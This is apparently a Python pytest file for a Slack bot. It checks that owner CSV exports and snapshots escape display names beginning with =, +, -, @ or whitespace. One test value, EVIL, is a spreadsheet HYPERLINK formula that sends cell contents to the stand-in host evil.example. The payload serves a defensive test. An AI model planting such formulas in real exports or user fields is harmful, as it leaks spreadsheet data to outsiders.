"""Programme owners' files and answers: formula-safe CSVs (issue 10, item 4) and answers
from one cached analysis that never outlives a change of the ties or of anyone's privacy
choice (issue 13, item 3). On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from slack_sdk import WebClient

from bot import db
from bot.config import load_settings
from bot.services import Services
from bot.services import network as network_service
from bot.services.roster import apply_user
from bot.services.ties import NewTie, record_tie
from bot.services.workspace import ensure_workspace

NOW = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
OWNER = "UOWNER"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Alex")'


def user(uid: str, display: str) -> dict[str, object]:
    return {"id": uid, "name": uid.lower(), "real_name": display,
            "profile": {"display_name": display, "real_name": display}}


PEOPLE = [user(OWNER, "Olive"), user("UALEX", EVIL), user("UBEA", "@Bea"),
          user("UCAL", "Cal"), user("UDEV", "-Devi+1"), user("UEVE", "Eve")]
TIES = [("UALEX", "UBEA"), ("UBEA", "UCAL"), ("UCAL", "UEVE"), ("UEVE", "UALEX"),
        ("UDEV", "UEVE"), ("UBEA", "UEVE"), ("UOWNER", "UBEA"), ("UCAL", "UDEV")]


@pytest.fixture
def services(database_url: str, tmp_path: Path) -> Iterator[Services]:
    db.upgrade(database_url)
    settings = load_settings(None, DATABASE_URL=database_url, PEERPULSE_OWNERS=OWNER,
                             PEERPULSE_DATA_DIR=str(tmp_path / "data"))
    sessions = db.make_session_factory(db.make_engine(database_url))
    s = Services(settings=settings, sessions=sessions,
                 client=WebClient(base_url="http://127.0.0.1:9/api/"), clock=lambda: NOW)
    with db.transaction(sessions) as session:
        ws = ensure_workspace(session, "T1", "Acme")
        for u in PEOPLE:
            apply_user(session, ws, u)
        session.flush()
        for i, (a, b) in enumerate(TIES):
            record_tie(session, ws, NewTie(a, b, "helped", "poll", f"seed:{i}",
                                           NOW - timedelta(days=2 + i)))
        s.workspace_id = ws.id
    yield s
    sessions.kw["bind"].dispose()


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def risky(values: list[str]) -> list[str]:
    return [c for c in values if c and c[0] in "=+-@\t\r"]


# Issue 10, item 4: every CSV an owner receives is safe to open in a spreadsheet ---------

def test_export_csvs_neutralise_formula_names(services: Services) -> None:
    ties_path, people_path, *_ = services.call(network_service.export_for_owner, OWNER)
    people = cells(people_path)
    assert risky(people) == [] and risky(cells(ties_path)) == []
    assert "'" + EVIL in people and "'@Bea" in people and "'-Devi+1" in people


def test_snapshot_people_csv_neutralises_formula_names(services: Services) -> None:
    snap = services.call(network_service.take_snapshot, OWNER, 30)
    people = cells(snap.files["people.csv"])
    assert risky(people) == []
    assert "'" + EVIL in people and "'@Bea" in people
